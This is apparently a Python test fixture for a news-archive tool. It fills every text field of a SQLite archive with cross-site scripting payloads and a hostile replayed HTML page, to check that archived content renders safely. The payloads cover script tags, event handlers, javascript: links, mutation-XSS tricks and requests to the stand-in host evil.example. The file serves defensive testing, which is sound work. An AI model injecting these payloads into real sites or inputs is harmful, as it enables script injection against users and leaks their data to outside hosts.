"""An archive whose every text is an attack on whoever reads it in a browser."""

from __future__ import annotations

import gzip
import json
import sqlite3
from contextlib import closing
from datetime import timedelta
from pathlib import Path

from archive import searchindex
from archive.models import ArticleText, Extraction, Lead, RawResponse, Source, Visit
from archive.text.normalise import Normaliser
from archive.writer import ArchiveWriter
from tests.keeping import NOW
from tests.tampering import unlock

ATTACK = (
    "\"'><script>window.pwned=1;fetch('//evil.example/a')</script><img src=//evil.example/b onerror=window.pwned=1>"
    "<svg onload=window.pwned=1><style>*{background:url(//evil.example/c)}</style><iframe src=//evil.example/d></iframe>"
    "</textarea></title></script><a href=javascript:window.pwned=1>x</a>{{7*7}}${7*7}\u202eesrever\u2066 =1+1 [[x]]"
)
ADDRESS = "javascript:window.pwned=1//https://evil.example/e"
SOURCE = Source(
    "x", f"X News {ATTACK}", "https://x.example/", ("en", "ar"), f"Syria {ATTACK}", ATTACK, "independent"
)
# Where a record lies, and what the schema allows only certain words for, are not texts.
_KEPT = {"warc_file", "payload_sha256", "hash", "previous_hash", "content_sha256"}


def page() -> bytes:
    """Return a page that attacks where it is replayed."""
    return (
        f"<!doctype html><html><head><title>{ATTACK}</title><base href=//evil.example/><meta http-equiv=refresh "
        "content='0;url=//evil.example/f'><link rel=stylesheet href=//evil.example/g><link rel=dns-prefetch "
        "href=//evil.example><script src=//evil.example/h></script><style>@import '//evil.example/i';body{background:"
        "url(//evil.example/j)}</style></head><body onload='window.pwned=1' background=//evil.example/k>"
        "<h1>Five people died</h1><p>Text that stays.</p><form action=//evil.example/l><input autofocus "
        "onfocus='window.pwned=1'><button formaction=javascript:window.pwned=1>x</button></form>"
        "<svg><script>window.pwned=1</script><image href=//evil.example/m /></svg><math><mtext><table><mglyph><style>"
        "<!--</style><img title='--><img src=1 onerror=window.pwned=1>'></table></math><video poster=//evil.example/n "
        f"src=//evil.example/o></video><object data=//evil.example/p></object><embed src=//evil.example/q>{ATTACK}"
        "<a href='javascript:window.pwned=1' ping=//evil.example/r>link</a><template><script>window.pwned=1</script>"
        "</template><noscript><img src=//evil.example/s></noscript></body></html>"
    ).encode()


def make(folder: Path) -> Path:
    """Make the archive, and return its path. Article 1 has two revisions; capture 1 is the page."""
    path = folder / "archive.db"
    writer = ArchiveWriter(path, version=ATTACK, clock=lambda: NOW + timedelta(days=9))
    writer.start()
    run = writer.begin_run(SOURCE)
    for number in range(4):
        run.record_visit(_visit(number // 2, str(number))).result(timeout=20)
    run.submit(lambda desk: desk.finish_run("finished", {}, {}, "{}"), is_urgent=True).result(timeout=20)
    run.end()
    writer.close()
    with closing(sqlite3.connect(path)) as conn:
        _poison(conn)
        searchindex.catch_up(conn, Normaliser())
        conn.commit()
    return path


def _visit(report: int, text: str) -> Visit:
    url = f"https://x.example/news/{report}"
    body = f"Five people died {ATTACK}\n\nIn Idlib, {text} were killed. {ATTACK}"
    response = RawResponse(
        url, 200, "OK", "GET", (("User-Agent", "test"),),
        (("Content-Type", "text/html"), ("Content-Encoding", "gzip")), gzip.compress(page() + text.encode(), mtime=0),
        NOW + timedelta(days=int(text)),
    )  # fmt: skip
    article = ArticleText(title=f"Report {report} {ATTACK}", body=body, author=ATTACK, language="en")
    return Visit(
        Lead(url, "feed"), (response,), url=url, extraction=Extraction(article, extractor_version=ATTACK)
    )


def _poison(conn: sqlite3.Connection) -> None:
    """Put an attack into each text of each table that the schema lets be one."""
    unlock(conn)
    conn.execute("pragma foreign_keys = off")
    tables = [
        name
        for (name,) in conn.execute("select name from sqlite_master where type = 'table'")
        if "fts" not in name and not name.startswith(("sqlite_", "_sqlite", "search_"))
    ]
    for table in tables:
        for _, column, kind, *_, key in conn.execute(f"pragma table_info({table})").fetchall():
            if kind.upper() == "TEXT" and not key and column not in _KEPT and not column.endswith("_id"):
                _poison_column(conn, table, column)


def _poison_column(conn: sqlite3.Connection, table: str, column: str) -> None:
    for rowid, value in conn.execute(f"select rowid, {column} from {table}").fetchall():  # noqa: S608
        try:
            conn.execute(
                f"update {table} set {column} = ? where rowid = ?",  # noqa: S608
                [_poisoned(column, value, rowid), rowid],
            )
        except sqlite3.IntegrityError:  # a word of a list, which nobody can make another
            continue


def _poisoned(column: str, value: str | None, rowid: int) -> str:
    if value and value[:1] in "[{":
        return json.dumps(_poisoned_data(json.loads(value)))
    if "url" in column or column == "homepage":
        return f"{ADDRESS}#{column}{rowid}"
    return f"{value or ''} {ATTACK}"


def _poisoned_data(data: object) -> object:
    if isinstance(data, dict):
        return {key: ADDRESS if key == "url" else _poisoned_data(value) for key, value in data.items()}
    if isinstance(data, list):
        return [_poisoned_data(value) for value in data]
    return f"{data} {ATTACK}" if isinstance(data, str) else data
